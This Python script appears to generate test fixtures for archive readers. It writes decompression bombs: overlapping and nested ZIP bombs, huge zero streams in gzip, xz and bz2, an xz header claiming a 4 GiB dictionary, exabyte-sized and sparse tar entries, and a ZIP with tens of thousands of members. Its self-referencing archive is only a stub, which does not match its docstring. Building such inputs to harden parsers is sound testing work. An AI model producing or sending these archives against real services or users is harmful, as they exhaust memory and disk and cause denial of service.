#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Archives that are made to hurt whoever opens them, into the folder given: overlapping and nested bombs, an archive that holds itself, a million members, a
dictionary of gigabytes, a sparse file of an exabyte. Each is small; none is kept in the tree."""
import bz2
import gzip
import io
import lzma
import os
import struct
import sys
import tarfile
import zipfile
import zlib

OUT = sys.argv[1]


def write(name, data):
    with open(os.path.join(OUT, name), "wb") as f:
        f.write(data)


def local(name, raw, size, crc, method=8):
    return struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, method, 0x6000, 0x585D, crc, len(raw), size, len(name), 0) + name


def central(name, packed, size, crc, offset, method=8):
    return struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 0x0314, 20, 0, method, 0x6000, 0x585D, crc, packed, size, len(name), 0, 0, 0, 0, 0o100644 << 16, offset) + name


def end(n, size, offset):
    return struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, n & 0xFFFF, n & 0xFFFF, size, offset, 0)


def end64(n, size, offset):
    here = offset + size
    return struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, n, n, size, offset) + struct.pack("<IIQI", 0x07064B50, 0, here, 1) + \
        struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)


def overlapping():
    """One kernel, many headers: every member's data runs through the headers of those behind it, each quoted by a stored deflate block."""
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    zeros = bytes(20_000_000)
    kernel = c.compress(zeros) + c.flush()
    names = [b"%03d" % i for i in range(200)]
    size, crc, body, members = len(zeros), zlib.crc32(zeros), kernel, []
    for name in reversed(names):
        head = local(name, body, size, crc)
        members.append((name, len(body), size, crc))
        whole = head + body
        # The next member in front quotes this header, then goes on with the same stream.
        quote = struct.pack("<BHH", 0, len(head), len(head) ^ 0xFFFF)
        out, body = whole, quote + whole
        crc = zlib.crc32(zeros, zlib.crc32(head)) if size == len(zeros) else None
        if crc is None:
            # CRC of head + what came before would need combining; readers see the content all the same, and say that it is wrong.
            crc = 0
        size += len(head)
    at, offsets = 0, {}
    for i, (name, packed, _, _) in enumerate(reversed(members)):
        offsets[name] = at
        at += 30 + len(name) + 5
    data = out
    records = b"".join(central(n, p, s, c, offsets[n]) for n, p, s, c in reversed(members))
    write("overlapping.zip", data + records + end(len(members), len(records), len(data)))


def same_kernel():
    """A thousand records that lead to one member."""
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    zeros = bytes(10_000_000)
    raw, crc = c.compress(zeros) + c.flush(), zlib.crc32(zeros)
    data = local(b"k", raw, len(zeros), crc) + raw
    records = b"".join(central(b"%d" % i, len(raw), len(zeros), crc, 0) for i in range(1000))
    write("same-kernel.zip", data + records + end(1000, len(records), len(data)))


def nested():
    data = bytes(1_000_000)
    for level in range(6):
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
            for i in range(10):
                z.writestr(f"{level}-{i}.zip", data)
        data = buf.getvalue()
    write("nested.zip", data)


def dense():
    write("zeros.gz", gzip.compress(bytes(300_000_000), 9))
    x = lzma.LZMACompressor()
    block = bytes(50_000_000)
    write("zeros.xz", b"".join(x.compress(block) for _ in range(6)) + x.flush())
    b = bz2.BZ2Compressor()
    write("zeros.bz2", b"".join(b.compress(block) for _ in range(6)) + b.flush())
    with zipfile.ZipFile(os.path.join(OUT, "zeros.zip"), "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("zeros", bytes(300_000_000))


def filters():
    data = b"deep\n"
    for _ in range(40):
        data = lzma.compress(data)
    write("deep.xz", data)
    # a dictionary of 3 GiB and more in the block's header: filter id 0x21, one byte of properties
    small = bytearray(lzma.compress(b"x" * 100, format=lzma.FORMAT_XZ, check=lzma.CHECK_NONE,
                                    filters=[{"id": lzma.FILTER_LZMA2, "dict_size": 1 << 20}]))
    at = 12  # block header: size, flags, 0x21, 1, dictionary
    small[at + 4] = 40  # 4 GiB - 1
    length = (small[at] + 1) * 4
    small[at + length - 4:at + length] = struct.pack("<I", zlib.crc32(bytes(small[at:at + length - 4])))
    write("dictionary.xz", bytes(small))


def tars():
    i = tarfile.TarInfo("huge")
    i.size = 1 << 62
    write("huge.tar", i.tobuf(tarfile.GNU_FORMAT) + bytes(1024))
    i = tarfile.TarInfo("sparse")
    i.pax_headers = {"GNU.sparse.major": "1", "GNU.sparse.minor": "0", "GNU.sparse.name": "sparse", "GNU.sparse.realsize": str(1 << 60)}
    body = b"1\n%d\n0\n" % (1 << 60)
    i.size = 512
    write("sparse.tar", i.tobuf(tarfile.PAX_FORMAT) + body + bytes(512 - len(body)) + bytes(1024))


def many(n, name):
    out = io.BytesIO()
    heads, offsets = [], []
    for i in range(n):
        member = b"%x" % i
        offsets.append((member, out.tell()))
        out.write(local(member, b"", 0, 0, 0))
    at = out.tell()
    for member, offset in offsets:
        heads.append(central(member, 0, 0, 0, offset, 0))
    records = b"".join(heads)
    write(name, out.getvalue() + records + end64(n, len(records), at))


def self_in_itself():
    """A gzip stream and a ZIP that hold archives by name only would be endless for who follows; one level is followed."""
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as z:
        z.writestr("self.zip", b"PK\3\4 and so on")
    write("self.zip", inner.getvalue())


overlapping()
same_kernel()
nested()
dense()
filters()
tars()
self_in_itself()
many(int(sys.argv[2]) if len(sys.argv) > 2 else 20000, "many.zip")
